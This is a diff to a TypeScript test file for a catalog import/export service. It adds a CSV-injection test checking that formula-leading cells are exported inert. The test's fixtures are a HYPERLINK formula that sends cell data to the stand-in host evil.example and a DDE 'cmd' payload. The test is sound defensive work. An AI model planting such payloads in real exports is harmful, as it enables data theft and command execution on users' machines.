@@ -3,6 +3,7 @@ import { after, before, describe, test } from 'node:test';
 import { openTestStore } from '../../../test/helpers/store.js';
 import { DomainError, systemClock } from '../../kernel/index.js';
 import { type Store, metaMigrations, migrate, sql } from '../../platform/db/index.js';
+import { parseCsv } from '../../platform/csv.js';
 import { eventsMigrations } from '../../platform/events/index.js';
 import { csvHeader, csvRow, exportJsonText } from './catalog.io.js';
 import { localRegions } from './catalog.regions.js';
@@ -34,6 +35,11 @@ before(async () => {
   service = createCatalogService({ db: store.db, clock: systemClock, regions });
 });
 after(() => store.close());
+
+/** the cells as a spreadsheet sees them: unquoted, one record */
+function parseCsvCells(line: string): string[] {
+  return parseCsv(line, { asWritten: true })[0]!.fields;
+}
 
 async function expectCode<T>(p: Promise<T>, code: string): Promise<DomainError> {
   try {
@@ -213,6 +219,20 @@ describe('tongban import items: all or nothing', () => {
     assert.equal(r.imported, 200);
     const back = await service.getPublishedItem(implementationCodeOf(sample[7]!));
     assert.deepEqual(back?.guide, JSON.parse(JSON.stringify(sample[7])));
+  });
+
+  test('OWASP CSV injection › a hostile item name is exported inert and imports back unchanged', async () => {
+    // a spreadsheet runs a cell starting with = + - @ (or tab / CR before one) as a formula
+    const hostile = clone(scale[400]!);
+    hostile.name = '=HYPERLINK("http://evil.example/?d="&A1,"办理指南")';
+    hostile.entrustedBy = "@SUM(1+1)*cmd|' /C calc'!A0";
+    const row = csvRow(hostile);
+    for (const cell of parseCsvCells(row)) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
+    const r = await service.importText([csvHeader(), row].join('\n'), 'csv');
+    assert.deepEqual(r.issues, []);
+    const back = await service.getPublishedItem(implementationCodeOf(hostile));
+    assert.equal(back?.guide.name, hostile.name);
+    assert.equal(back?.guide.entrustedBy, hostile.entrustedBy);
   });
 
   test('JSON › the full 5,314-item list imports when clean', async () => {
